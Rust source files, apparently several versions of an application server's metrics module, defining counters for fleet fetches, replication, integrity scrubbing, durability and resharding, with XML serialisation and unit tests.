    /// Asynchronous `behind` fetches the fleet's pages issued.
    pub fleet_behind_calls: u64,
    /// Fleet-wide fetch attempts (first tries + retries).
    pub fleet_attempts: u64,
    /// Retry tasks the fleet's clients scheduled.
    pub fleet_retries: u64,
    /// Client-side request deadlines hit across the fleet.
    pub fleet_timeouts: u64,
    /// Fetches that exhausted retries and surfaced an error.
    pub fleet_fetch_errors: u64,
    /// Circuit breakers opened across the fleet.
    pub fleet_breaker_opens: u64,
    /// Fetches rejected without touching the wire (breaker open).
    pub fleet_breaker_fast_fails: u64,
    /// Degraded fetches answered from a client's stale cache.
    pub fleet_stale_served: u64,
    /// `stale` events delivered to page listeners.
    pub fleet_stale_events: u64,
    /// `error` events delivered to page listeners.
    pub fleet_error_events: u64,
    /// readyState-4 completions (fresh responses) observed by pages.
    pub fleet_completions: u64,
    /// Stale-cache entries LRU-evicted across the fleet.
    pub fleet_evictions: u64,
    /// Listeners quarantined across the fleet.
    pub fleet_quarantine_trips: u64,
    /// Turns where a 503's `Retry-After` gated the next interaction.
    pub fleet_retry_after_honored: u64,
    /// Turns that saw `X-XQIB-Degraded`/high replica lag and backed off.
    pub fleet_degraded_observed: u64,
    /// Requests that actually reached the wire towards the cluster.
    pub fleet_origin_requests: u64,
    /// `(behind_calls − origin_requests) * 1000 / behind_calls`: the §6.1
    /// offload claim as a number.
    pub fleet_cache_hit_permille: u64,
    /// Anti-entropy scrub cycles run across the cluster.
    pub scrub_cycles: u64,
    /// Per-document digest comparisons performed by the scrubber.
    pub scrub_docs_checked: u64,
    /// Replica documents whose digest disagreed with the leader's record.
    pub scrub_digest_mismatches: u64,
    /// Mid-prefix WAL damage the scrubber found on live nodes' disks.
    pub scrub_wal_corruptions: u64,
    /// Corrupt checkpoint slots the scrubber found.
    pub scrub_ckpt_corruptions: u64,
    /// Scrub passes that found every written checkpoint slot corrupt.
    pub scrub_ckpt_lost: u64,
    /// Followers pulled from the read pool over damage or divergence.
    pub integrity_quarantines: u64,
    /// Repairs begun (node-local re-checkpoint or snapshot resync).
    pub integrity_repairs_started: u64,
    /// Quarantined followers readmitted after digests matched again.
    pub integrity_repairs_verified: u64,
    /// Leaders demoted for sitting on a damaged WAL.
    pub integrity_leader_demotions: u64,
    /// Failover winners healed from intact memory before promotion.
    pub integrity_promote_heals: u64,
    /// Follower `/doc` bodies digest-verified before being served.
    pub integrity_reads_verified: u64,
    /// Follower `/doc` bodies refused over a digest mismatch.
    pub integrity_reads_refused: u64,
    /// Decay periods swept across every seat disk.
    pub decay_sweeps: u64,
    /// At-rest synced sectors hit by latent bit rot.
    pub decay_sectors: u64,
    /// Leader `/doc` bodies digest-verified before being served.
    pub doc_reads_verified: u64,
    /// Leader `/doc` bodies refused with `XQIB0019` (digest mismatch).
    pub doc_reads_refused: u64,
    /// Ring installs (add, decommission, rebalance) — topology epoch bumps.
    pub reshard_epoch_bumps: u64,
    /// Per-document migrations that entered the copy phase.
    pub reshard_migrations_started: u64,
    /// Migrations that reached cutover.
    pub reshard_migrations_completed: u64,
    /// Copy phases abandoned (destination rot or mid-flight retarget).
    pub reshard_migrations_aborted: u64,
    /// Documents whose home moved to a new shard.
    pub reshard_docs_moved: u64,
    /// WAL records forwarded as a migration's copy-window tail.
    pub reshard_tail_frames_forwarded: u64,
    /// Cutover fences stamped (source starts refusing with 421 + epoch).
    pub reshard_cutover_fences: u64,
    /// Decommissioned shards fully drained and retired.
    pub reshard_drains: u64,
}

impl ServerMetrics {
    pub fn reset(&mut self) {
        *self = ServerMetrics::default();
    }

    /// Folds in the engine counters accumulated since `baseline`. The
    /// engine counters are process-global and monotone, so the server keeps
    /// the snapshot taken at construction as its baseline.
    pub fn record_engine_stats(&mut self, baseline: EngineStats, now: EngineStats) {
        self.order_index_rebuilds = now
            .order_index_rebuilds
            .saturating_sub(baseline.order_index_rebuilds);
        self.sorts_performed = now.sorts_performed.saturating_sub(baseline.sorts_performed);
        self.sorts_elided = now.sorts_elided.saturating_sub(baseline.sorts_elided);
    }

    /// Mirrors a client's recovery counters into the server's metrics (the
    /// Figure 2 experiment reads one struct for the whole deployment). The
    /// recovery counters are cumulative snapshots, so this overwrites.
    pub fn record_recovery(&mut self, stats: &RecoveryStats) {
        self.fetch_attempts = stats.attempts;
        self.fetch_retries = stats.retries;
        self.fetch_timeouts = stats.timeouts;
        self.breaker_opens = stats.breaker_opens;
        self.breaker_half_opens = stats.breaker_half_opens;
        self.breaker_closes = stats.breaker_closes;
        self.stale_served = stats.stale_served;
    }

    /// Mirrors a client's listener-isolation counters (cumulative snapshots,
    /// like [`record_recovery`](Self::record_recovery) — overwrites).
    pub fn record_isolation(&mut self, stats: &QuarantineStats) {
        self.listener_errors = stats.listener_errors;
        self.listener_panics = stats.listener_panics;
        self.fuel_exhausted = stats.fuel_exhausted;
        self.quarantine_trips = stats.trips;
        self.quarantine_skips = stats.skipped;
    }

    /// Mirrors the database's durability counters (cumulative snapshots —
    /// overwrites, same convention as the recovery/isolation mirrors).
    pub fn record_durability(&mut self, stats: &DurabilityStats) {
        self.wal_appends = stats.wal_appends;
        self.wal_fsyncs = stats.fsyncs;
        self.checkpoints = stats.checkpoints;
        self.recoveries = stats.recoveries;
        self.torn_tails_dropped = stats.torn_tails_dropped;
        self.ckpt_slots_lost = stats.ckpt_slots_lost;
        self.wal_corruptions = stats.wal_corruptions;
        self.recovery_digest_mismatches = stats.recovery_digest_mismatches;
    }

    /// Mirrors the cluster's end-to-end integrity counters (cumulative
    /// snapshots — overwrites, same convention as the other mirrors).
    pub fn record_integrity(&mut self, stats: &crate::cluster::IntegrityStats) {
        self.scrub_cycles = stats.scrub_cycles;
        self.scrub_docs_checked = stats.scrub_docs_checked;
        self.scrub_digest_mismatches = stats.scrub_digest_mismatches;
        self.scrub_wal_corruptions = stats.scrub_wal_corruptions;
        self.scrub_ckpt_corruptions = stats.scrub_ckpt_corruptions;
        self.scrub_ckpt_lost = stats.scrub_ckpt_lost;
        self.integrity_quarantines = stats.quarantines;
        self.integrity_repairs_started = stats.repairs_started;
        self.integrity_repairs_verified = stats.repairs_verified;
        self.integrity_leader_demotions = stats.leader_demotions;
        self.integrity_promote_heals = stats.promote_heals;
        self.integrity_reads_verified = stats.reads_verified;
        self.integrity_reads_refused = stats.reads_refused;
        self.decay_sweeps = stats.decay_sweeps;
        self.decay_sectors = stats.sectors_decayed;
    }

    /// Mirrors the database's plan-cache counters (cumulative snapshots —
    /// overwrites, same convention as the other mirrors).
    pub fn record_plan_cache(&mut self, stats: &PlanCacheStats) {
        self.plan_cache_hits = stats.hits;
        self.plan_cache_misses = stats.misses;
        self.plan_cache_evictions = stats.evictions;
        self.plan_cache_invalidations = stats.invalidations;
    }

    /// Mirrors the request governor's overload counters (cumulative
    /// snapshots — overwrites, same convention as the other mirrors).
    pub fn record_overload(&mut self, stats: &OverloadStats) {
        self.admitted = stats.admitted;
        self.shed = stats.shed();
        self.degraded = stats.degraded;
        self.deadline_exceeded = stats.deadline_exceeded;
        self.queue_delay_p50_ms = stats.queue_delay_percentile(50);
        self.queue_delay_p99_ms = stats.queue_delay_percentile(99);
    }

    /// Mirrors the cluster's replication counters (cumulative snapshots —
    /// overwrites, same convention as the other mirrors).
    pub fn record_replication(&mut self, stats: &crate::cluster::ReplicationStats) {
        self.repl_frames_shipped = stats.frames_shipped;
        self.repl_frames_acked = stats.frames_acked;
        self.repl_frames_retried = stats.frames_retried;
        self.repl_snapshots_shipped = stats.snapshots_shipped;
        self.repl_probes = stats.probes;
        self.repl_failovers = stats.failovers;
        self.repl_follower_reads = stats.follower_reads;
        self.repl_ownership_rejections = stats.ownership_rejections;
        self.repl_blackout_ms = stats.blackout_ms;
        self.repl_max_replica_lag = stats.max_replica_lag;
    }

    /// Mirrors the cluster's resharding counters (cumulative snapshots —
    /// overwrites, same convention as the other mirrors).
    pub fn record_resharding(&mut self, stats: &crate::cluster::ReshardStats) {
        self.reshard_epoch_bumps = stats.epoch_bumps;
        self.reshard_migrations_started = stats.migrations_started;
        self.reshard_migrations_completed = stats.migrations_completed;
        self.reshard_migrations_aborted = stats.migrations_aborted;
        self.reshard_docs_moved = stats.docs_moved;
        self.reshard_tail_frames_forwarded = stats.tail_frames_forwarded;
        self.reshard_cutover_fences = stats.cutover_fences;
        self.reshard_drains = stats.drains;
    }

    /// Mirrors a fleet run's aggregate counters (cumulative snapshots —
    /// overwrites, same convention as the other mirrors).
    pub fn record_fleet(&mut self, stats: &crate::fleet::FleetStats) {
        self.fleet_clients = stats.clients;
        self.fleet_interactions = stats.interactions;
        self.fleet_behind_calls = stats.behind_calls;
        self.fleet_attempts = stats.attempts;
        self.fleet_retries = stats.retries;
        self.fleet_timeouts = stats.timeouts;
        self.fleet_fetch_errors = stats.fetch_errors;
        self.fleet_breaker_opens = stats.breaker_opens;
        self.fleet_breaker_fast_fails = stats.breaker_fast_fails;
        self.fleet_stale_served = stats.stale_served;
        self.fleet_stale_events = stats.stale_events;
        self.fleet_error_events = stats.error_events;
        self.fleet_completions = stats.completions;
        self.fleet_evictions = stats.evictions;
        self.fleet_quarantine_trips = stats.quarantine_trips;
        self.fleet_retry_after_honored = stats.retry_after_honored;
        self.fleet_degraded_observed = stats.degraded_observed;
        self.fleet_origin_requests = stats.origin_requests;
        self.fleet_cache_hit_permille = stats.cache_hit_permille;
    }

    /// Serialises every counter as XML (the `/metrics` route). The
    /// exhaustive destructuring means a newly added counter fails to
    /// compile until it is serialized here too.
    pub fn to_xml(&self) -> String {
        let ServerMetrics {
            requests,
            bytes_out,
            xquery_evals,
            order_index_rebuilds,
            sorts_performed,
            sorts_elided,
            failed_calls,
            fetch_attempts,
            fetch_retries,
            fetch_timeouts,
            breaker_opens,
            breaker_half_opens,
            breaker_closes,
            stale_served,
            listener_errors,
            listener_panics,
            fuel_exhausted,
            quarantine_trips,
            quarantine_skips,
            wal_appends,
            wal_fsyncs,
            checkpoints,
            recoveries,
            torn_tails_dropped,
            ckpt_slots_lost,
            wal_corruptions,
            recovery_digest_mismatches,
            admitted,
            shed,
            degraded,
            deadline_exceeded,
            queue_delay_p50_ms,
            queue_delay_p99_ms,
            plan_cache_hits,
            plan_cache_misses,
            plan_cache_evictions,
            plan_cache_invalidations,
            repl_frames_shipped,
            repl_frames_acked,
            repl_frames_retried,
            repl_snapshots_shipped,
            repl_probes,
            repl_failovers,
            repl_follower_reads,
            repl_ownership_rejections,
            repl_blackout_ms,
            repl_max_replica_lag,
            fleet_clients,
            fleet_interactions,
            fleet_behind_calls,
            fleet_attempts,
            fleet_retries,
            fleet_timeouts,
            fleet_fetch_errors,
            fleet_breaker_opens,
            fleet_breaker_fast_fails,
            fleet_stale_served,
            fleet_stale_events,
            fleet_error_events,
            fleet_completions,
            fleet_evictions,
            fleet_quarantine_trips,
            fleet_retry_after_honored,
            fleet_degraded_observed,
            fleet_origin_requests,
            fleet_cache_hit_permille,
            scrub_cycles,
            scrub_docs_checked,
            scrub_digest_mismatches,
            scrub_wal_corruptions,
            scrub_ckpt_corruptions,
            scrub_ckpt_lost,
            integrity_quarantines,
            integrity_repairs_started,
            integrity_repairs_verified,
            integrity_leader_demotions,
            integrity_promote_heals,
            integrity_reads_verified,
            integrity_reads_refused,
            decay_sweeps,
            decay_sectors,
            doc_reads_verified,
            doc_reads_refused,
            reshard_epoch_bumps,
            reshard_migrations_started,
            reshard_migrations_completed,
            reshard_migrations_aborted,
            reshard_docs_moved,
            reshard_tail_frames_forwarded,
            reshard_cutover_fences,
            reshard_drains,
        } = self;
        let fields: &[(&str, u64)] = &[
            ("requests", *requests),
            ("bytes-out", *bytes_out),
            ("xquery-evals", *xquery_evals),
            ("order-index-rebuilds", *order_index_rebuilds),
            ("sorts-performed", *sorts_performed),
            ("sorts-elided", *sorts_elided),
            ("failed-calls", *failed_calls),
            ("fetch-attempts", *fetch_attempts),
            ("fetch-retries", *fetch_retries),
            ("fetch-timeouts", *fetch_timeouts),
            ("breaker-opens", *breaker_opens),
            ("breaker-half-opens", *breaker_half_opens),
            ("breaker-closes", *breaker_closes),
            ("stale-served", *stale_served),
            ("listener-errors", *listener_errors),
            ("listener-panics", *listener_panics),
            ("fuel-exhausted", *fuel_exhausted),
            ("quarantine-trips", *quarantine_trips),
            ("quarantine-skips", *quarantine_skips),
            ("wal-appends", *wal_appends),
            ("wal-fsyncs", *wal_fsyncs),
            ("checkpoints", *checkpoints),
            ("recoveries", *recoveries),
            ("torn-tails-dropped", *torn_tails_dropped),
            ("ckpt-slots-lost", *ckpt_slots_lost),
            ("wal-corruptions", *wal_corruptions),
            ("recovery-digest-mismatches", *recovery_digest_mismatches),
            ("admitted", *admitted),
            ("shed", *shed),
            ("degraded", *degraded),
            ("deadline-exceeded", *deadline_exceeded),
            ("queue-delay-p50-ms", *queue_delay_p50_ms),
            ("queue-delay-p99-ms", *queue_delay_p99_ms),
            ("plan-cache-hits", *plan_cache_hits),
            ("plan-cache-misses", *plan_cache_misses),
            ("plan-cache-evictions", *plan_cache_evictions),
            ("plan-cache-invalidations", *plan_cache_invalidations),
            ("repl-frames-shipped", *repl_frames_shipped),
            ("repl-frames-acked", *repl_frames_acked),
            ("repl-frames-retried", *repl_frames_retried),
            ("repl-snapshots-shipped", *repl_snapshots_shipped),
            ("repl-probes", *repl_probes),
            ("repl-failovers", *repl_failovers),
            ("repl-follower-reads", *repl_follower_reads),
            ("repl-ownership-rejections", *repl_ownership_rejections),
            ("repl-blackout-ms", *repl_blackout_ms),
            ("repl-max-replica-lag", *repl_max_replica_lag),
            ("fleet-clients", *fleet_clients),
            ("fleet-interactions", *fleet_interactions),
            ("fleet-behind-calls", *fleet_behind_calls),
            ("fleet-attempts", *fleet_attempts),
            ("fleet-retries", *fleet_retries),
            ("fleet-timeouts", *fleet_timeouts),
            ("fleet-fetch-errors", *fleet_fetch_errors),
            ("fleet-breaker-opens", *fleet_breaker_opens),
            ("fleet-breaker-fast-fails", *fleet_breaker_fast_fails),
            ("fleet-stale-served", *fleet_stale_served),
            ("fleet-stale-events", *fleet_stale_events),
            ("fleet-error-events", *fleet_error_events),
            ("fleet-completions", *fleet_completions),
            ("fleet-evictions", *fleet_evictions),
            ("fleet-quarantine-trips", *fleet_quarantine_trips),
            ("fleet-retry-after-honored", *fleet_retry_after_honored),
            ("fleet-degraded-observed", *fleet_degraded_observed),
            ("fleet-origin-requests", *fleet_origin_requests),
            ("fleet-cache-hit-permille", *fleet_cache_hit_permille),
            ("scrub-cycles", *scrub_cycles),
            ("scrub-docs-checked", *scrub_docs_checked),
            ("scrub-digest-mismatches", *scrub_digest_mismatches),
            ("scrub-wal-corruptions", *scrub_wal_corruptions),
            ("scrub-ckpt-corruptions", *scrub_ckpt_corruptions),
            ("scrub-ckpt-lost", *scrub_ckpt_lost),
            ("integrity-quarantines", *integrity_quarantines),
            ("integrity-repairs-started", *integrity_repairs_started),
            ("integrity-repairs-verified", *integrity_repairs_verified),
            ("integrity-leader-demotions", *integrity_leader_demotions),
            ("integrity-promote-heals", *integrity_promote_heals),
            ("integrity-reads-verified", *integrity_reads_verified),
            ("integrity-reads-refused", *integrity_reads_refused),
            ("decay-sweeps", *decay_sweeps),
            ("decay-sectors", *decay_sectors),
            ("doc-reads-verified", *doc_reads_verified),
            ("doc-reads-refused", *doc_reads_refused),
            ("reshard-epoch-bumps", *reshard_epoch_bumps),
            ("reshard-migrations-started", *reshard_migrations_started),
            (
                "reshard-migrations-completed",
                *reshard_migrations_completed,
            ),
            ("reshard-migrations-aborted", *reshard_migrations_aborted),
            ("reshard-docs-moved", *reshard_docs_moved),
            (
                "reshard-tail-frames-forwarded",
                *reshard_tail_frames_forwarded,
            ),
            ("reshard-cutover-fences", *reshard_cutover_fences),
            ("reshard-drains", *reshard_drains),
        ];
        let mut out = String::from("<metrics>");
        for (name, value) in fields {
            out.push_str(&format!("<{name}>{value}</{name}>"));
        }
        out.push_str("</metrics>");
        out
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    /// Every counter, set to a distinct non-default value, via an
    /// **exhaustive** struct literal: adding a `ServerMetrics` field
    /// without extending this constructor is a compile error, so a new
    /// counter can never silently survive [`ServerMetrics::reset`].
    fn all_counters_nonzero() -> ServerMetrics {
        ServerMetrics {
            requests: 1,
            bytes_out: 2,
            xquery_evals: 3,
            order_index_rebuilds: 4,
            sorts_performed: 5,
            sorts_elided: 6,
            failed_calls: 7,
            fetch_attempts: 8,
            fetch_retries: 9,
            fetch_timeouts: 10,
            breaker_opens: 11,
            breaker_half_opens: 12,
            breaker_closes: 13,
            stale_served: 14,
            listener_errors: 15,
            listener_panics: 16,
            fuel_exhausted: 17,
            quarantine_trips: 18,
            quarantine_skips: 19,
            wal_appends: 20,
            wal_fsyncs: 21,
            checkpoints: 22,
            recoveries: 23,
            torn_tails_dropped: 24,
            ckpt_slots_lost: 64,
            wal_corruptions: 65,
            recovery_digest_mismatches: 66,
            admitted: 25,
            shed: 26,
            degraded: 27,
            deadline_exceeded: 28,
            queue_delay_p50_ms: 29,
            queue_delay_p99_ms: 30,
            plan_cache_hits: 31,
            plan_cache_misses: 32,
            plan_cache_evictions: 33,
            plan_cache_invalidations: 34,
            repl_frames_shipped: 35,
            repl_frames_acked: 36,
            repl_frames_retried: 37,
            repl_snapshots_shipped: 38,
            repl_probes: 39,
            repl_failovers: 40,
            repl_follower_reads: 41,
            repl_ownership_rejections: 42,
            repl_blackout_ms: 43,
            repl_max_replica_lag: 44,
            fleet_clients: 45,
            fleet_interactions: 46,
            fleet_behind_calls: 47,
            fleet_attempts: 48,
            fleet_retries: 49,
            fleet_timeouts: 50,
            fleet_fetch_errors: 51,
            fleet_breaker_opens: 52,
            fleet_breaker_fast_fails: 53,
            fleet_stale_served: 54,
            fleet_stale_events: 55,
            fleet_error_events: 56,
            fleet_completions: 57,
            fleet_evictions: 58,
            fleet_quarantine_trips: 59,
            fleet_retry_after_honored: 60,
            fleet_degraded_observed: 61,
            fleet_origin_requests: 62,
            fleet_cache_hit_permille: 63,
            scrub_cycles: 67,
            scrub_docs_checked: 68,
            scrub_digest_mismatches: 69,
            scrub_wal_corruptions: 70,
            scrub_ckpt_corruptions: 71,
            scrub_ckpt_lost: 72,
            integrity_quarantines: 73,
            integrity_repairs_started: 74,
            integrity_repairs_verified: 75,
            integrity_leader_demotions: 76,
            integrity_promote_heals: 77,
            integrity_reads_verified: 78,
            integrity_reads_refused: 79,
            decay_sweeps: 80,
            decay_sectors: 81,
            doc_reads_verified: 82,
            doc_reads_refused: 83,
            reshard_epoch_bumps: 84,
            reshard_migrations_started: 85,
            reshard_migrations_completed: 86,
            reshard_migrations_aborted: 87,
            reshard_docs_moved: 88,
            reshard_tail_frames_forwarded: 89,
            reshard_cutover_fences: 90,
            reshard_drains: 91,
        }
    }

    #[test]
    fn reset_clears_every_counter() {
        let mut m = all_counters_nonzero();
        m.reset();
        assert_eq!(m, ServerMetrics::default());
    }

    #[test]
    fn to_xml_serializes_every_counter() {
        let xml = all_counters_nonzero().to_xml();
        assert!(xml.starts_with("<metrics>") && xml.ends_with("</metrics>"));
        // each field was set to a distinct value, so each must appear
        assert!(xml.contains("<requests>1</requests>"), "{xml}");
        assert!(xml.contains("<queue-delay-p99-ms>30</queue-delay-p99-ms>"));
        // 91 counters → 91 distinct element names
        assert_eq!(xml.matches("</").count(), 91 + 1, "{xml}");
        assert!(xml.contains("<plan-cache-hits>31</plan-cache-hits>"));
        assert!(xml.contains("<repl-frames-shipped>35</repl-frames-shipped>"));
        assert!(xml.contains("<repl-max-replica-lag>44</repl-max-replica-lag>"));
        assert!(xml.contains("<fleet-clients>45</fleet-clients>"));
        assert!(xml.contains("<fleet-cache-hit-permille>63</fleet-cache-hit-permille>"));
        assert!(xml.contains("<ckpt-slots-lost>64</ckpt-slots-lost>"));
        assert!(xml.contains("<scrub-cycles>67</scrub-cycles>"));
        assert!(xml.contains("<integrity-quarantines>73</integrity-quarantines>"));
        assert!(xml.contains("<decay-sectors>81</decay-sectors>"));
        assert!(xml.contains("<doc-reads-refused>83</doc-reads-refused>"));
        assert!(xml.contains("<reshard-epoch-bumps>84</reshard-epoch-bumps>"));
        assert!(xml.contains("<reshard-drains>91</reshard-drains>"));
    }

    #[test]
    fn fleet_counters_mirror_the_fleet_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = crate::fleet::FleetStats {
            clients: 12,
            interactions: 60,
            behind_calls: 70,
            attempts: 90,
            retries: 20,
            timeouts: 4,
            fetch_errors: 6,
            breaker_opens: 3,
            breaker_fast_fails: 5,
            stale_served: 11,
            stale_events: 11,
            error_events: 2,
            completions: 57,
            evictions: 1,
            quarantine_trips: 0,
            retry_after_honored: 3,
            degraded_observed: 2,
            origin_requests: 36,
            cache_hit_permille: 485,
        };
        m.record_fleet(&stats);
        assert_eq!(m.fleet_clients, 12);
        assert_eq!(m.fleet_interactions, 60);
        assert_eq!(m.fleet_behind_calls, 70);
        assert_eq!(m.fleet_attempts, 90);
        assert_eq!(m.fleet_retries, 20);
        assert_eq!(m.fleet_timeouts, 4);
        assert_eq!(m.fleet_fetch_errors, 6);
        assert_eq!(m.fleet_breaker_opens, 3);
        assert_eq!(m.fleet_breaker_fast_fails, 5);
        assert_eq!(m.fleet_stale_served, 11);
        assert_eq!(m.fleet_stale_events, 11);
        assert_eq!(m.fleet_error_events, 2);
        assert_eq!(m.fleet_completions, 57);
        assert_eq!(m.fleet_evictions, 1);
        assert_eq!(m.fleet_quarantine_trips, 0);
        assert_eq!(m.fleet_retry_after_honored, 3);
        assert_eq!(m.fleet_degraded_observed, 2);
        assert_eq!(m.fleet_origin_requests, 36);
        assert_eq!(m.fleet_cache_hit_permille, 485);
        m.record_fleet(&crate::fleet::FleetStats::default());
        assert_eq!(m.fleet_clients, 0, "cumulative snapshot overwrites");
    }

    #[test]
    fn replication_counters_mirror_the_cluster_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = crate::cluster::ReplicationStats {
            frames_shipped: 7,
            frames_acked: 6,
            frames_retried: 2,
            snapshots_shipped: 1,
            probes: 3,
            failovers: 1,
            follower_reads: 9,
            ownership_rejections: 1,
            blackout_ms: 250,
            max_replica_lag: 4,
        };
        m.record_replication(&stats);
        assert_eq!(m.repl_frames_shipped, 7);
        assert_eq!(m.repl_frames_acked, 6);
        assert_eq!(m.repl_frames_retried, 2);
        assert_eq!(m.repl_snapshots_shipped, 1);
        assert_eq!(m.repl_probes, 3);
        assert_eq!(m.repl_failovers, 1);
        assert_eq!(m.repl_follower_reads, 9);
        assert_eq!(m.repl_ownership_rejections, 1);
        assert_eq!(m.repl_blackout_ms, 250);
        assert_eq!(m.repl_max_replica_lag, 4);
        m.record_replication(&crate::cluster::ReplicationStats::default());
        assert_eq!(m.repl_frames_shipped, 0, "cumulative snapshot overwrites");
    }

    #[test]
    fn overload_counters_mirror_the_governor_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = OverloadStats {
            admitted: 10,
            shed_queue_full: 2,
            shed_queue_delay: 3,
            degraded: 4,
            deadline_exceeded: 5,
            queue_delays: vec![5, 1, 9, 2, 40],
            ..Default::default()
        };
        m.record_overload(&stats);
        assert_eq!(m.admitted, 10);
        assert_eq!(m.shed, 5, "both shedding flavours combined");
        assert_eq!(m.degraded, 4);
        assert_eq!(m.deadline_exceeded, 5);
        assert_eq!(m.queue_delay_p50_ms, 5);
        assert_eq!(m.queue_delay_p99_ms, 40);
        m.record_overload(&OverloadStats::default());
        assert_eq!(m.admitted, 0, "cumulative snapshot overwrites");
    }

    #[test]
    fn engine_stats_are_deltas() {
        let mut m = ServerMetrics::default();
        let base = EngineStats {
            order_index_rebuilds: 10,
            sorts_performed: 20,
            sorts_elided: 30,
        };
        let now = EngineStats {
            order_index_rebuilds: 12,
            sorts_performed: 25,
            sorts_elided: 37,
        };
        m.record_engine_stats(base, now);
        assert_eq!(m.order_index_rebuilds, 2);
        assert_eq!(m.sorts_performed, 5);
        assert_eq!(m.sorts_elided, 7);
        // A counter reset elsewhere must not underflow.
        m.record_engine_stats(now, base);
        assert_eq!(m.order_index_rebuilds, 0);
    }

    #[test]
    fn recovery_counters_mirror_the_client_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = RecoveryStats {
            attempts: 9,
            retries: 4,
            timeouts: 3,
            breaker_opens: 2,
            breaker_half_opens: 1,
            breaker_closes: 1,
            stale_served: 5,
            ..Default::default()
        };
        m.record_recovery(&stats);
        assert_eq!(m.fetch_attempts, 9);
        assert_eq!(m.fetch_retries, 4);
        assert_eq!(m.fetch_timeouts, 3);
        assert_eq!(m.breaker_opens, 2);
        assert_eq!(m.breaker_half_opens, 1);
        assert_eq!(m.breaker_closes, 1);
        assert_eq!(m.stale_served, 5);
        // a later snapshot overwrites (the counters are cumulative)
        m.record_recovery(&RecoveryStats::default());
        assert_eq!(m.fetch_attempts, 0);
    }

    #[test]
    fn isolation_counters_mirror_the_client_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = QuarantineStats {
            listener_errors: 6,
            listener_panics: 2,
            fuel_exhausted: 1,
            trips: 3,
            skipped: 4,
            ..Default::default()
        };
        m.record_isolation(&stats);
        assert_eq!(m.listener_errors, 6);
        assert_eq!(m.listener_panics, 2);
        assert_eq!(m.fuel_exhausted, 1);
        assert_eq!(m.quarantine_trips, 3);
        assert_eq!(m.quarantine_skips, 4);
        m.record_isolation(&QuarantineStats::default());
        assert_eq!(m.listener_errors, 0);
    }

    #[test]
    fn durability_counters_mirror_the_db_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = DurabilityStats {
            wal_appends: 8,
            fsyncs: 5,
            checkpoints: 2,
            recoveries: 1,
            torn_tails_dropped: 1,
            ckpt_slots_lost: 1,
            wal_corruptions: 2,
            recovery_digest_mismatches: 3,
        };
        m.record_durability(&stats);
        assert_eq!(m.wal_appends, 8);
        assert_eq!(m.wal_fsyncs, 5);
        assert_eq!(m.checkpoints, 2);
        assert_eq!(m.recoveries, 1);
        assert_eq!(m.torn_tails_dropped, 1);
        assert_eq!(m.ckpt_slots_lost, 1);
        assert_eq!(m.wal_corruptions, 2);
        assert_eq!(m.recovery_digest_mismatches, 3);
        m.record_durability(&DurabilityStats::default());
        assert_eq!(m.wal_appends, 0);
        assert_eq!(m.ckpt_slots_lost, 0, "cumulative snapshot overwrites");
    }

    #[test]
    fn integrity_counters_mirror_the_cluster_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = crate::cluster::IntegrityStats {
            scrub_cycles: 4,
            scrub_docs_checked: 40,
            scrub_digest_mismatches: 1,
            scrub_wal_corruptions: 2,
            scrub_ckpt_corruptions: 1,
            scrub_ckpt_lost: 1,
            quarantines: 3,
            repairs_started: 3,
            repairs_verified: 2,
            leader_demotions: 1,
            promote_heals: 1,
            reads_verified: 25,
            reads_refused: 1,
            decay_sweeps: 90,
            sectors_decayed: 7,
        };
        m.record_integrity(&stats);
        assert_eq!(m.scrub_cycles, 4);
        assert_eq!(m.scrub_docs_checked, 40);
        assert_eq!(m.scrub_digest_mismatches, 1);
        assert_eq!(m.scrub_wal_corruptions, 2);
        assert_eq!(m.scrub_ckpt_corruptions, 1);
        assert_eq!(m.scrub_ckpt_lost, 1);
        assert_eq!(m.integrity_quarantines, 3);
        assert_eq!(m.integrity_repairs_started, 3);
        assert_eq!(m.integrity_repairs_verified, 2);
        assert_eq!(m.integrity_leader_demotions, 1);
        assert_eq!(m.integrity_promote_heals, 1);
        assert_eq!(m.integrity_reads_verified, 25);
        assert_eq!(m.integrity_reads_refused, 1);
        assert_eq!(m.decay_sweeps, 90);
        assert_eq!(m.decay_sectors, 7);
        m.record_integrity(&crate::cluster::IntegrityStats::default());
        assert_eq!(m.scrub_cycles, 0, "cumulative snapshot overwrites");
    }

    #[test]
    fn reshard_counters_mirror_the_cluster_snapshot() {
        let mut m = ServerMetrics::default();
        let stats = crate::cluster::ReshardStats {
            epoch_bumps: 3,
            migrations_started: 9,
            migrations_completed: 8,
            migrations_aborted: 1,
            docs_moved: 8,
            tail_frames_forwarded: 12,
            cutover_fences: 8,
            drains: 1,
        };
        m.record_resharding(&stats);
        assert_eq!(m.reshard_epoch_bumps, 3);
        assert_eq!(m.reshard_migrations_started, 9);
        assert_eq!(m.reshard_migrations_completed, 8);
        assert_eq!(m.reshard_migrations_aborted, 1);
        assert_eq!(m.reshard_docs_moved, 8);
        assert_eq!(m.reshard_tail_frames_forwarded, 12);
        assert_eq!(m.reshard_cutover_fences, 8);
        assert_eq!(m.reshard_drains, 1);
        m.record_resharding(&crate::cluster::ReshardStats::default());
        assert_eq!(m.reshard_epoch_bumps, 0, "cumulative snapshot overwrites");
    }
}
