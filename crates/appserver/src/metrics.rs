//! Server-side metrics for the Figure 2 experiment: how much work and
//! traffic each deployment (server-rendered vs migrated) costs the server.

/// Counters accumulated by the application server.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct ServerMetrics {
    /// HTTP requests handled.
    pub requests: u64,
    /// Bytes shipped to clients.
    pub bytes_out: u64,
    /// Server-side XQuery evaluations (the CPU-cost proxy the paper's
    /// off-loading argument is about).
    pub xquery_evals: u64,
}

impl ServerMetrics {
    pub fn reset(&mut self) {
        *self = ServerMetrics::default();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reset_clears() {
        let mut m = ServerMetrics { requests: 3, bytes_out: 100, xquery_evals: 2 };
        m.reset();
        assert_eq!(m, ServerMetrics::default());
    }
}
