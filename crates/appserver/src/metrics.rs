//! Server-side metrics for the Figure 2 experiment: how much work and
//! traffic each deployment (server-rendered vs migrated) costs the server.

use xqib_browser::{QuarantineStats, RecoveryStats};
use xqib_dom::order::stats::EngineStats;
